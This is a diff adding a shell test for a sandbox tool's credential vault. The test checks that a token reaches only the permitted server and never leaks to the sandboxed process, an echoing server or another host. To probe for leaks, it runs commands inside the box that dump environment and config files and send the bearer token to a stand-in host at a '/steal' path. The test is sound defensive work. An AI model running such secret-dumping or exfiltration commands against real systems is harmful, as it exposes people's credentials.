@@ -1,0 +1,35 @@
+# Credentials on doors: the server gets the secret, the box never has it.
+. "$(dirname "$0")/lib-net.sh"
+if [ ! -x "$CORDON_LIBEXEC/cordon-vault" ]; then
+        skip "credentials on doors" "cordon-vault is not built here: it needs OpenSSL"
+        done_testing
+fi
+secret=ghp_Q9zzSecretOfTheTestSuite0123456789
+for who in root as_user; do
+        # Each has a vault of its own, where it may write.
+        home=$T/home-$who
+        mkdir -m 700 "$home" && [ "$who" = root ] || chown 65533:65533 "$home" 2>/dev/null
+        export XDG_CONFIG_HOME="$home"
+        printf %s "$secret" | $who env XDG_CONFIG_HOME="$home" "$CORDON" vault add gh --env GITHUB_TOKEN >"$T/out" 2>&1
+        is "$who: a credential" "$? $(cat "$T/out")" "0 "
+        door="https://web.test/** GET with gh"
+        plain="http://web.test/** GET with gh"
+        : >"$T/lab/auth.log"
+        box $who --net "$plain" -- sh -c 'echo "$GITHUB_TOKEN"; curl -sS -m 10 -H "Authorization: Bearer $GITHUB_TOKEN" http://web.test/api'
+        hasnt "$who: the variable is not the secret" "$(cat "$T/out")" "Q9zz"
+        ok "$who: but as long" test "$(head -n 1 "$T/out" | wc -c)" -eq $((${#secret} + 1))
+        is "$who: the server gets it" "$(cat "$T/lab/auth.log")" "/api Bearer $secret"
+        is "$who: and the request went through" "$(tail -n 1 "$T/out")" "GET /api 0"
+        box $who --net "$plain" -- sh -c 'curl -sS -m 10 -i -H "Authorization: Bearer $GITHUB_TOKEN" http://web.test/echo; env; cat /proc/self/environ /etc/cordon/* | tr "\0" "\n"'
+        has "$who: a server that echoes is heard" "$(cat "$T/out")" "you said"
+        hasnt "$who: but the secret does not come back" "$(cat "$T/out")" "Q9zz"
+        has "$who: and that is told" "$(json '[.net.destinations[].why] | join(" ")')" "secret"
+        hasnt "$who: nothing of the result holds it" "$(cat "$T/status" "$T/err")" "Q9zz"
+        : >"$T/lab/auth.log"
+        box $who --net "$plain" --net http://four.test/** -- sh -c 'curl -sS -m 10 -H "Authorization: Bearer $GITHUB_TOKEN" http://four.test/steal'
+        hasnt "$who: another host does not get it" "$(cat "$T/lab/auth.log")" "Q9zz"
+        box $who --net "http://web.test/** with nobody" -- true
+        is "$who: a door whose credential is not in the vault stops the start" $status 125
+        has "$who: and says what to type" "$(cat "$T/err")" "cordon vault add nobody"
+done
+done_testing
